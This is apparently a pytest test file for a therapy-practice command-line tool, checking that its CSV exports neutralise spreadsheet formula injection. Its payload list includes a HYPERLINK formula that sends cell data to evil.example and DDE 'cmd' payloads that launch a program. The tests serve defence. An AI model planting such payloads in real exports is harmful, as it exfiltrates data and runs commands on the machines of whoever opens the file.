"""CSV meant for spreadsheets: text that a spreadsheet would run as a formula is neutralised in every writer."""

from __future__ import annotations

import csv
import io
import sqlite3

import pytest

from therapy_cli.render import spreadsheet_safe

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.fixture
def hostile(cli, jcli, db_path):
    """One client per payload (written as an import from another system could), each with a note."""
    jcli("config", "set", "timezone", "Europe/London")
    for i, _ in enumerate(PAYLOADS):
        jcli("client", "add", f"Client {i}")
        sid = jcli("session", "add", f"Client {i}", "--at", f"2026-11-{10 + i} 10:00")["id"]
        jcli("session", "note", sid, f"note {i}")
    assert cli("client", "add", "--json", "--", "-42").exit_code == 0  # text that is a number stays a number
    conn = sqlite3.connect(db_path)
    for i, payload in enumerate(PAYLOADS):
        conn.execute("UPDATE clients SET name = ?, referral_source = ? WHERE id = ?", (payload, payload, i + 1))
        conn.execute("DROP TRIGGER notes_no_update")
        conn.execute("UPDATE notes SET text = ? WHERE session_id = ?", (payload, i + 1))
        conn.execute("CREATE TRIGGER notes_no_update BEFORE UPDATE ON notes "
                     "BEGIN SELECT RAISE(ABORT, 'notes are append-only'); END")
    conn.commit()
    conn.close()


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def _occurrences(text: str, payload: str) -> list[int]:
    """Where the payload stands in the CSV text (quotes inside a cell are doubled)."""
    needle = payload.replace('"', '""')
    found, start = [], 0
    while (at := text.find(needle, start)) >= 0:
        found.append(at)
        start = at + 1
    return found


def _assert_neutralised(text: str) -> None:
    for payload in PAYLOADS:
        where = _occurrences(text, payload)
        assert where, (payload, text)
        # every occurrence is a cell that begins with the guard
        assert all(text[at - 1] == "'" and text[at - 2] in ',"\n' for at in where), (payload, text)


def _assert_raw(text: str) -> None:
    for payload in PAYLOADS:
        assert any(text[at - 1] != "'" for at in _occurrences(text, payload)), payload


@pytest.mark.parametrize("args", [["client", "list", "--csv"], ["report", "caseload", "--csv"],
                                  ["client", "list", "--format", "csv"]])
def test_render_csv_is_neutralised_unless_raw(hostile, cli, args):
    result = cli(*args)
    assert result.exit_code == 0, result.stderr
    _assert_neutralised(result.stdout)
    assert "\n8,-42," in result.stdout or ",-42," in result.stdout
    _assert_raw(cli(*args, "--raw").stdout)


@pytest.mark.parametrize("table", ["clients", "notes"])
def test_export_is_neutralised_to_stdout_and_to_a_file_unless_raw(hostile, cli, tmp_path, table):
    result = cli("export", table)
    assert result.exit_code == 0, result.stderr
    _assert_neutralised(result.stdout)
    out = tmp_path / f"{table}.csv"
    assert cli("export", table, "--output", out).exit_code == 0
    _assert_neutralised(out.read_bytes().decode())
    assert cli("export", table, "--output", out, "--raw", "--yes").exit_code == 0
    _assert_raw(out.read_bytes().decode())
    # JSON lines are for programs: never altered
    assert "'=HYPERLINK" not in cli("export", table, "--file-format", "jsonl").stdout


def test_export_all_is_neutralised(hostile, cli, tmp_path):
    assert cli("export", "all", "--output", tmp_path / "all").exit_code == 0
    _assert_neutralised((tmp_path / "all" / "clients.csv").read_bytes().decode())


def test_bom_on_every_csv_path(hostile, cli, tmp_path):
    assert cli("client", "list", "--csv", "--bom").stdout.startswith("\ufeffid,")
    assert not cli("client", "list", "--csv").stdout.startswith("\ufeff")
    assert cli("export", "clients", "--bom").stdout.startswith("\ufeffid,")
    out = tmp_path / "c.csv"
    cli("export", "clients", "--bom", "--output", out)
    assert out.read_bytes().startswith(b"\xef\xbb\xbfid,")
    weekly = tmp_path / "weekly.csv"
    assert cli("report", "week", "--append", weekly, "--bom").exit_code == 0
    assert cli("report", "week", "--week", "last", "--append", weekly, "--bom").exit_code == 0
    data = weekly.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfperiod_start") and data.count(b"\xef\xbb\xbf") == 1
    assert len(data.decode("utf-8-sig").strip().splitlines()) == 3


def test_negative_numbers_stay_numbers(hostile, cli, jcli):
    jcli("measure", "add", "7", "PHQ-9", "--score", "20", "--on", "2026-01-01")
    jcli("measure", "add", "7", "PHQ-9", "--score", "5", "--on", "2026-02-01")
    rows = list(csv.DictReader(io.StringIO(cli("measure", "progress", "7", "--csv").stdout)))
    assert rows[0]["change"] == "-15"


def test_spreadsheet_safe_cell_rules():
    for payload in PAYLOADS:
        assert spreadsheet_safe(payload) == "'" + payload
    for value in ("-15", "+44", "-1.5", "1e-3", 3, -4.5, None, "plain", "", "O'Brien"):
        assert spreadsheet_safe(value) == value
    assert spreadsheet_safe("+44 20 7946 0000") == "'+44 20 7946 0000"


def test_an_exported_clients_csv_imports_back_with_the_guard_removed(cli, jcli, tmp_path, monkeypatch):
    jcli("client", "add", "+Plus Person")
    jcli("client", "add", "O'Brien Person")
    out = tmp_path / "clients.csv"
    assert cli("export", "clients", "--output", out).exit_code == 0
    assert "'+Plus Person" in out.read_text()
    monkeypatch.setenv("THERAPY_DB", str(tmp_path / "other.db"))
    result = cli("import", "clients", out)
    assert result.exit_code == 0, result.stderr
    assert [c["name"] for c in jcli("client", "list")] == ["+Plus Person", "O'Brien Person"]
